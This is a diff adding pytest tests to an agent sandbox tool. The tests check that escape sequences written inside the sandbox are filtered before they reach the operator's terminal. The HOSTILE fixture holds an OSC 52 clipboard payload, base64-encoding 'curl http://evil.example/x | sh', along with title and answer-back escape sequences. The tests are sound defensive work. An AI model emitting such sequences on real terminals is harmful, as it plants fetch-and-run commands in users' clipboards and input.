@@ -495,3 +495,96 @@ def test_an_exec_terminal_whose_client_vanishes_hangs_up_and_holds_nothing(daemo
         assert "sleep" in out and "cat" not in out, out
     finally:
         av("rm", "st-hup", check=False)
+
+
+# ---------------------------------------------------------------- what reaches the terminal
+# The sandbox writes what would make the operator's terminal act for it: OSC 52 (the clipboard),
+# a title, DSR / DA / DECRQSS queries (the terminal types its answer into its own input). On a
+# terminal none of it arrives; the colours do; --raw-output (AGENTVM_RAW_OUTPUT=1) passes it all.
+HOSTILE = (r"printf 'A\033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\007B\033]0;pwned\007C\033[6nD"
+           r"\033[cE\033P$qm\033\\F\033[31mRED\033[0mG\033]8;;http://x/\033\\LINK\033]8;;\033\\END%s\n' $((40+2))")
+HOSTILE_BITS = [b"]52;", b"pwned", b"\x1b[6n", b"\x1b[c", b"\x1bP", b"$qm"]
+
+
+def on_terminal(argv: list[str], env: dict | None = None, stdin_null: bool = False) -> tuple[int, bytes]:
+    """``argv`` on a real pty (pty.fork): its exit code and every byte the terminal received."""
+    pid, fd = pty.fork()
+    if pid == 0:
+        try:
+            if env:
+                os.environ.update(env)
+            if stdin_null:
+                nul = os.open(os.devnull, os.O_RDONLY)
+                os.dup2(nul, 0)
+            os.execvp(argv[0], argv)
+        finally:
+            os._exit(127)
+    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))
+    t = Term.__new__(Term)
+    t.pid, t.fd, t.buf = pid, fd, b""
+    _TERMS.append(t)
+    code = t.wait(120)
+    _TERMS.remove(t)
+    return code, t.buf
+
+
+def assert_filtered(shown: bytes) -> None:
+    assert b"END42" in shown, shown
+    for bit in HOSTILE_BITS:
+        assert bit not in shown, (bit, shown)
+    assert b"\x1b[31mRED\x1b[0m" in shown and b"\x1b]8;;http://x/\x1b\\LINK" in shown, shown
+    assert b"ABCDEFG" in shown.replace(b"\x1b[31mRED\x1b[0m", b""), shown
+
+
+@pytest.mark.parametrize("how", ["tty", "stdin-null"])
+def test_the_terminal_gets_no_clipboard_title_or_answer_back_through_the_daemon(daemon, how):
+    n = len(records("operator.run"))
+    code, shown = on_terminal(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE], stdin_null=how == "stdin-null")
+    assert code == 0, shown
+    assert_filtered(shown)
+    assert len(records("operator.run")) == n + 1, "through the daemon"
+    code, shown = on_terminal(agentvm_cmd() + ["run", "--raw-output", "--", "/bin/sh", "-c", HOSTILE],
+                              stdin_null=how == "stdin-null")
+    assert code == 0 and b"END42" in shown, shown
+    assert all(bit in shown for bit in HOSTILE_BITS), shown
+
+
+def test_the_compiled_client_filters_a_terminal_on_stdout(daemon, compiled_client):
+    n = len(records("operator.run"))
+    code, shown = on_terminal([str(compiled_client), "run", "--", "/bin/sh", "-c", HOSTILE], stdin_null=True)
+    assert code == 0, shown
+    assert_filtered(shown)
+    code, shown = on_terminal([str(compiled_client), "run", "--", "/bin/sh", "-c", HOSTILE],
+                              env={"AGENTVM_RAW_OUTPUT": "1"}, stdin_null=True)
+    assert code == 0 and all(bit in shown for bit in HOSTILE_BITS), shown
+    assert len(records("operator.run")) == n + 2
+
+
+def test_exec_on_a_terminal_is_filtered(daemon, tmp_path):
+    av("create", "-f", str(agent(tmp_path, "st-esc", ["/bin/sh", "-c", "exec sleep 300"])), "--start")
+    try:
+        for args in (["exec"], ["exec", "-it"]):
+            code, shown = on_terminal(agentvm_cmd() + args + ["st-esc", "--", "/bin/sh", "-c", HOSTILE])
+            assert code == 0, shown
+            assert_filtered(shown)
+        code, shown = on_terminal(agentvm_cmd() + ["exec", "--raw-output", "st-esc", "--", "/bin/sh", "-c", HOSTILE])
+        assert code == 0 and all(bit in shown for bit in HOSTILE_BITS), shown
+    finally:
+        av("rm", "st-esc", check=False)
+
+
+@pytest.mark.parametrize("how", ["tty", "stdin-null"])
+def test_the_embedded_run_filters_the_terminal_too(avm_home, how):
+    code, shown = on_terminal(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE],
+                              env={"AGENTVM_NO_DAEMON": "1"}, stdin_null=how == "stdin-null")
+    assert code == 0, shown
+    assert_filtered(shown)
+    code, shown = on_terminal(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE],
+                              env={"AGENTVM_NO_DAEMON": "1", "AGENTVM_RAW_OUTPUT": "1"}, stdin_null=how == "stdin-null")
+    assert code == 0 and all(bit in shown for bit in HOSTILE_BITS), shown
+
+
+def test_a_pipe_gets_the_exact_bytes(daemon):
+    r = subprocess.run(agentvm_cmd() + ["run", "--", "/bin/sh", "-c", HOSTILE], stdin=subprocess.DEVNULL,
+                       capture_output=True, timeout=120)
+    assert r.returncode == 0 and all(bit in r.stdout for bit in HOSTILE_BITS), r.stdout
